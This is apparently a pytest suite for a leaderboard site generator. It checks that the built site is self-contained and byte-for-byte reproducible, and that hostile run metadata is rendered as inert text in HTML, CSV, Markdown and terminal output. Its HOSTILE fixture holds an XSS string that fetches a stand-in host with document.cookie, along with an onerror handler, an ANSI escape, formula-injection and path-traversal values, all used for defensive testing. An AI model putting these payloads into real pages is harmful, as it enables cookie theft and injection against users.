"""The site: whole or not at all, the same bytes each time, and nothing in it that a run can make it do."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from click.testing import CliRunner
from small_boards import board_of
from small_runs import made, rewrite

from core_harness.cli import cli
from core_harness.cli.output.leaderboard_tables import print_board
from core_harness.leaderboard import Board, write_site
from core_harness.leaderboard.exports import as_dict
from core_harness.runs.folder import Run, open_run

SCRIPT = "<script>fetch('http://example.org/'+document.cookie)</script>"
HOSTILE = f"\"'><img src=x onerror=alert(1)>{SCRIPT}\x1b[31m|=cmd()"


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Run, Run]:
    frequency, voting = made(tmp_path_factory.mktemp("runs"))
    return frequency, voting


@pytest.fixture(scope="module")
def board(runs: tuple[Run, Run]) -> Board:
    return board_of([run.folder for run in runs])


@pytest.fixture
def hostile(runs: tuple[Run, Run], tmp_path: Path) -> Board:
    """A board with a run that says something hostile in every place."""
    frequency, voting = (open_run(shutil.copytree(run.folder, tmp_path / run.name)) for run in runs)
    component = {"name": HOSTILE, "distribution": HOSTILE, "parameters": {HOSTILE: HOSTILE}}
    method = {"label": HOSTILE, "model": f"../../{HOSTILE}", "components": {HOSTILE: component}}
    rewrite(voting, None, method=method, packages={HOSTILE: HOSTILE})
    unranked = shutil.copytree(voting.folder, tmp_path / "..%2f..%2fetc <b>")
    rewrite(open_run(unranked), task={"dataset": HOSTILE})
    return board_of([frequency.folder, voting.folder, unranked])


class Page(HTMLParser):
    """The elements of a page, and what they refer to."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    @property
    def references(self) -> list[str]:
        return [str(a[key]) for _, a in self.elements for key in ("href", "src") if key in a]


def pages(folder: Path) -> dict[Path, Page]:
    return {path: Page(path.read_text(encoding="utf-8")) for path in folder.rglob("*.html")}


def test_all_that_a_page_refers_to_is_in_the_site(board: Board, tmp_path: Path) -> None:
    write_site(board, tmp_path / "site")
    found = pages(tmp_path / "site")
    assert len(found) == 3
    for path, page in found.items():
        for reference in page.references:
            if not reference.startswith(("#", "data:,")):
                assert (path.parent / reference).is_file(), reference
    written = b"".join(path.read_bytes() for path in (tmp_path / "site").rglob("*") if path.is_file())
    assert b"http://" not in written
    assert b"https://" not in written


def test_the_style_sheet_has_a_rule_for_what_pages_rely_on(board: Board, tmp_path: Path) -> None:
    write_site(board, tmp_path / "site")
    style = "".join(path.read_text() for path in (tmp_path / "site" / "assets").glob("*.css"))
    selectors = [selector.strip() for selector in re.findall(r"([^{}]+)\{[^{}]*\}", style)]
    assert 'th[aria-sort="ascending"] .arrow::after' in selectors
    assert 'th[aria-sort="descending"] .arrow::after' in selectors
    assert ".facts" in selectors


def test_the_same_runs_give_the_same_bytes(runs: tuple[Run, Run], board: Board, tmp_path: Path) -> None:
    write_site(board, tmp_path / "one")
    write_site(board_of([run.folder for run in runs[::-1]]), tmp_path / "two")
    for path in (tmp_path / "one").rglob("*.*"):
        assert path.read_bytes() == (tmp_path / "two" / path.relative_to(tmp_path / "one")).read_bytes()


def test_what_a_run_says_is_text_and_nothing_else(hostile: Board, tmp_path: Path) -> None:
    write_site(hostile, tmp_path / "site")
    assert {run.manifest.method.label for run in hostile.ranked("simulated")} == {
        "gene-frequency",
        HOSTILE.replace("\x1b", "?"),
    }
    for path, page in pages(tmp_path / "site").items():
        scripts = [attributes for tag, attributes in page.elements if tag == "script"]
        assert len(scripts) == 1
        assert str(scripts[0]["src"]).endswith("assets/site.js")
        assert "img" not in {tag for tag, _ in page.elements}
        assert not [key for _, attributes in page.elements for key in attributes if key.startswith("on")]
        assert re.fullmatch(r"[a-z0-9-]+\.html", path.name)
        assert path.parent in {tmp_path / "site", tmp_path / "site" / "runs"}
    for path in (tmp_path / "site").rglob("*.*"):
        assert path.suffix == ".parquet" or b"\x1b" not in path.read_bytes()
    assert "<script" not in (tmp_path / "site" / "leaderboard.md").read_text()
    rows = list(csv.DictReader(io.StringIO((tmp_path / "site" / "leaderboard.csv").read_text())))
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "@"))]


def test_a_terminal_shows_what_a_run_says_and_does_not_obey_it(
    hostile: Board, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    print_board(hostile, tmp_path)
    printed = capsys.readouterr().out
    assert "<script>" in printed
    assert "\x1b" not in printed
    assert r"\x1b[31m" in printed


def test_json_is_that_of_the_board(board: Board, tmp_path: Path) -> None:
    write_site(board, tmp_path / "site")
    content = json.loads((tmp_path / "site" / "leaderboard.json").read_text())
    assert content == json.loads(json.dumps(as_dict(board)))
    assert content["schema_version"] == 2
    assert content["simulated"] is True
    best = content["methods"][0]["runs"]["simulated"]
    assert {"value", "low", "high", "coverage", "run_seed", "rank", "predictions_sha256"} <= set(best)


def test_every_picture_says_in_words_what_it_shows(board: Board, tmp_path: Path) -> None:
    write_site(board, tmp_path / "site")
    page = (tmp_path / "site" / "runs" / f"{board.ranked('simulated')[0].page}.html").read_text()
    drawn = re.findall(r"<svg class=\"chart\".*?</svg>", page, re.DOTALL)
    titles = []
    for svg in map(ET.fromstring, drawn):
        title, description = svg.find("title"), svg.find("desc")
        assert title is not None
        assert description is not None
        assert svg.attrib["aria-labelledby"].split() == [title.attrib["id"], description.attrib["id"]]
        assert len(str(description.text)) > 60
        titles.append(title.text)
    assert titles == ["AUROC gene by gene", "Reliability", "Risk and coverage", "Score and gene frequency"]


def test_the_command(runs: tuple[Run, Run], tmp_path: Path) -> None:
    """The shipped suite, on runs of another world: a board on which everything is missing or unranked."""
    command = ["leaderboard", "build", "--suite", "simulated"]
    arguments = [*command, "--out", str(tmp_path / "site"), str(runs[0].folder.parent)]
    done = CliRunner().invoke(cli, arguments, catch_exceptions=False)
    assert done.exit_code == 0, done.output
    assert "SIMULATED" in done.output
    assert "not run: additive, constant" in done.output
    assert "unranked: " in done.output
    content = json.loads(CliRunner().invoke(cli, [*arguments, "--json"], catch_exceptions=False).stdout)
    assert len(content["unranked"]) == 2
    refused = CliRunner().invoke(cli, [*command, str(tmp_path / "none")])
    assert refused.exit_code == 5
    assert refused.output.count("\n") == 1
